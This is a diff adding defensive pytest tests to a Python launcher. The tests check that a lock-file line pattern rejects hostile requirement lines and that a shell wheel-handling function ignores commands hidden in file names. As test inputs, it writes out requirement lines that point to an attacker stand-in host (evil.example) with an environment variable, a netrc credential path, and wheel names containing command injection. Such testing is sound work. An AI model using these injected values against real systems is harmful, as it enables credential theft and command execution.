@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import os
+import subprocess
 from pathlib import Path
 
 import pytest
 
 from launcher.config.models import Source
-from launcher.environment import describe
+from launcher.environment import describe, locks
 from launcher.environment.locks import changes, inputs_digest, pins_of
 from launcher.errors import ConfigurationError
 from launcher.images import wheels
@@ -74,3 +76,49 @@ def test_what_can_have_no_hash_is_installed_apart() -> None:
     assert hashed == "six==1.17.0 \\\n    --hash=sha256:aa\n"
     assert rest.lines == ("@@0@@[pdf]", "erp2 @ file://@@1@@")
     assert [item.asked for item in rest.builds] == ["./local/packages/erp", ""]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "--find-links http://evil.example/${UV_INDEX}",
+        "-r /dev/dltpod/netrc",
+        "six==1.17.0 --index-url http://evil.example",
+        "six==${UV_INDEX}",
+        "erp @ git+https://evil.example/${UV_INDEX}@0123",
+    ],
+)
+def test_a_lock_holds_no_line_that_uv_would_follow(line: str) -> None:
+    assert locks._LINE.match(line) is None
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "six==1.17.0 \\",
+        "    --hash=sha256:aa \\",
+        "    --hash=sha256:aa",
+        "pywin32==311 ; sys_platform == 'win32' \\",
+        "./packages/erp[pdf]",
+        "erp[pdf] @ git+https://example.org/erp@0123#subdirectory=a/b",
+    ],
+)
+def test_a_lock_holds_pins_hashes_local_paths_and_commits(line: str) -> None:
+    assert locks._LINE.match(line)
+
+
+@pytest.mark.parametrize("name", ["zz|;1e touch RAN;#.whl", "a b.whl", "$(touch RAN).whl"])
+def test_the_name_of_a_wheel_that_build_code_made_runs_nothing(tmp_path: Path, name: str) -> None:
+    made = tmp_path / "made" / "wheels" / "0"
+    made.mkdir(parents=True)
+    (made / name).write_text("x")
+    (made / "erp-1.0-py3-none-any.whl").write_text("x")
+    (tmp_path / "requirements.txt").write_text("@@0@@\n")
+    common = (Path(__file__).parents[3] / "launcher/assets/common.sh").read_text()
+    begin = common.index("take_wheels() {")
+    function = common[begin : common.index("\n}\n", begin) + 3]
+    script = function.replace("/dev/dltpod/wheels", str(tmp_path / "made")) + "take_wheels requirements.txt\n"
+    environ = {**os.environ, "given": str(tmp_path)}
+    subprocess.run(["sh", "-eu", "-c", script], cwd=tmp_path, env=environ, check=True)
+    assert not (tmp_path / "RAN").exists()
+    assert (tmp_path / "requirements.txt").read_text().endswith("/erp-1.0-py3-none-any.whl\n")
